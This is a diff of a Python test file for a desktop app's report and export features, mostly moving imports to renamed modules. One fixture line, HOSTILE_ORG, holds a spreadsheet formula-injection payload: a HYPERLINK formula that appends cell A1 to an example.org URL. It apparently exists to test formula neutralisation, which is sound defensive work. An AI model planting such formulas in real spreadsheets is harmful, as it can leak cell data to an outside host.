@@ -26,18 +26,18 @@ from openpyxl import load_workbook
 from pypdf import PdfReader
 from sqlalchemy import select
 
-from desktop_app import cli
-from desktop_app.exchange.hq_export import export_workbook
-from desktop_app.reports.counting import PeriodFilter
+from desktop_app.activities.counting import PeriodFilter
+from desktop_app.cli.main import main as cli
+from desktop_app.privacy.pseudonymised import export_pseudonymised
+from desktop_app.reports.data import activity_report, period_report
+from desktop_app.reports.documents import period_document
 from desktop_app.reports.pdf_render import render_pdf
-from desktop_app.reports.report_data import activity_report, period_report
-from desktop_app.reports.report_documents import period_document
-from desktop_app.reports.report_xlsx import write_activity_xlsx, write_period_xlsx
-from desktop_app.reports.signin_sheet import load_signin_sheet, write_signin_xlsx
-from desktop_app.services.privacy_export import export_pseudonymised
-from desktop_app.services.workbook_cells import looks_like_formula
+from desktop_app.reports.xlsx import write_activity_xlsx, write_period_xlsx
+from desktop_app.signin.printing import load_signin_sheet, write_signin_xlsx
 from desktop_app.store import Database, open_database
 from desktop_app.store.models import Activity, Organisation, Person
+from desktop_app.sync.export import export_workbook
+from desktop_app.workbooks.cells import looks_like_formula
 from tests.postgres.databases import copy_database
 from tests.reports.libreoffice import row_labelled, to_csv
 from tests.reports.report_samples import DAYS, add_activity, add_head_count, add_person, attend
@@ -45,7 +45,7 @@ from tests.reports.report_samples import DAYS, add_activity, add_head_count, add
 SYMPOSIUM_DAY = dt.date(2022, 11, 15)
 HOSTILE_DAYS = (dt.date(2022, 10, 10), dt.date(2022, 10, 11))
 HOSTILE_ORG = '=HYPERLINK("http://example.org/?"&A1,"x")'
-# Counted by hand (DOMAIN.md rules, youth under 30) from `_record_activities`:
+# Counted by hand (docs/domain.md's rules, youth under 30) from `_record_activities`:
 # training 8 (4 named + a head count of 4), symposium 154 (3 named + 151), workshop 2.
 BY_HAND = {
     "participants": 8 + 154 + 2,
@@ -159,7 +159,7 @@ def _report_json(path: Path | str) -> dict[str, Any]:
     arguments = ["--from", "2022-01-01", "--to", "2022-12-31", "--youth-threshold", "30"]
     out = io.StringIO()
     with contextlib.redirect_stdout(out):
-        assert cli.main(["--db", str(path), "report", *arguments, "--format", "json"]) == 0
+        assert cli(["--db", str(path), "report", *arguments, "--format", "json"]) == 0
     result: dict[str, Any] = json.loads(out.getvalue())
     return result
 
